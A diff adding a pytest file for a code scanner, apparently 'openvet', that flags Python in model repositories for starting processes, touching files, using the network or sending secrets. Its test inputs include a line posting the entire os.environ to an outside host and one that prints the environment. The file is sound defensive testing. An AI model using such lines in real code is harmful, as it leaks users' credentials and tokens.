@@ -1,0 +1,96 @@
+"""What keeps a source from being quiet, and secrets that are sent."""
+
+import pytest
+
+from openvet.checks._check import Context
+from openvet.checks.hub import custom_code, python_code
+from openvet.checks.python import sends_secrets
+from openvet.checks.python._quiet import why_loud
+from openvet.core.coverage import Coverage
+from openvet.core.finding import Finding
+from openvet.core.limits import DEFAULT_LIMITS
+from openvet.core.location import Location
+from openvet.core.rule import Severity
+from openvet.formats.python import read_source
+from openvet.inventory.component import Component, Inventory
+from openvet.testing.forge_python import QUIET, SECRETS
+
+
+def part(name: str, text: str) -> Component:
+    program = read_source(text, Location(name), DEFAULT_LIMITS)
+    return Component(name, name, len(text), ("python",), Coverage.READ, programs=(program,))
+
+
+def context(rule: object, *parts: Component) -> Context:
+    return Context(Inventory(parts), rule.RULE)  # type: ignore[attr-defined]
+
+
+@pytest.mark.parametrize(
+    ("text", "why"),
+    [
+        ("import torch\nclass A(torch.nn.Module):\n    def forward(self, x): return x\n", ""),
+        ("import torch\ndef convert(p): return torch.load(p, weights_only=False)\n", ""),
+        ("def save(p):\n    with open(p, 'w') as f: f.write('x')\n", ""),
+        ("from .helper import go\nclass A: pass\n", ""),
+        ("import os\ndef build(): os.system('make')\n", "line 2 starts a process (os.system)"),
+        (
+            "import requests\nclass A:\n    def forward(self, u): return requests.get(u)\n",
+            "line 3 uses the network (requests.get)",
+        ),
+        ("import nobody_knows\n", "it imports nobody_knows, a package that OpenVet does not know"),
+        ("import beside\n", ""),
+        ("eval('(' * 10\n", "it could not be read to its end"),
+    ],
+)
+def test_why_a_source_is_loud(text: str, why: str) -> None:
+    found = why_loud(
+        context(python_code, part("m.py", text), part("helper.py", "x = 1\n"), part("beside/__init__.py", ""))
+    )
+    assert found["m.py"] == why
+
+
+def test_what_a_neighbour_does_makes_it_loud() -> None:
+    found = why_loud(
+        context(
+            python_code,
+            part("m.py", "from .h import go\ngo()\n"),
+            part("h.py", "import os\ndef go(): os.remove('x')\n"),
+        )
+    )
+    assert found == {"m.py": "", "h.py": "line 2 changes files (os.remove)"}
+
+
+def test_custom_code_is_a_note_where_all_code_only_defines() -> None:
+    config = Component("config.json", "config.json", 1, ("json",), Coverage.READ,
+                       document={"auto_map": {"AutoModel": "modeling.A"}})  # fmt: skip
+
+    def said(*parts: Component) -> list[Severity]:
+        return [each.severity for each in custom_code.check(context(custom_code, config, *parts))]
+
+    assert said(part("modeling.py", "class A: pass\n")) == [Severity.NOTE]
+    assert said(part("modeling.py", "class A: pass\n"), part("x.py", "import os\nos.system('echo hello')\n")) == [
+        Severity.MEDIUM
+    ]
+    assert said() == [Severity.MEDIUM]
+
+
+def secrets(text: str) -> list[Finding]:
+    return list(sends_secrets.check(context(sends_secrets, part("m.py", text))))
+
+
+@pytest.mark.parametrize("name", sorted(SECRETS))
+def test_a_secret_that_is_sent(name: str) -> None:
+    assert [each.severity for each in secrets(SECRETS[name])] == [Severity.HIGH]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        QUIET["its-own-service"],
+        "import os, json\nclass A:\n    def __init__(self, c): print(json.dumps(dict(os.environ)))\n",
+        "import os, requests\nclass A:\n    def __init__(self, c): requests.get(os.environ['MIRROR'])\n",
+        "import os, requests\ndef helper(): requests.post('https://example.org', json=dict(os.environ))\n",
+    ],
+)
+def test_a_secret_that_stays_or_is_asked_for(text: str) -> None:
+    assert secrets(text) == []
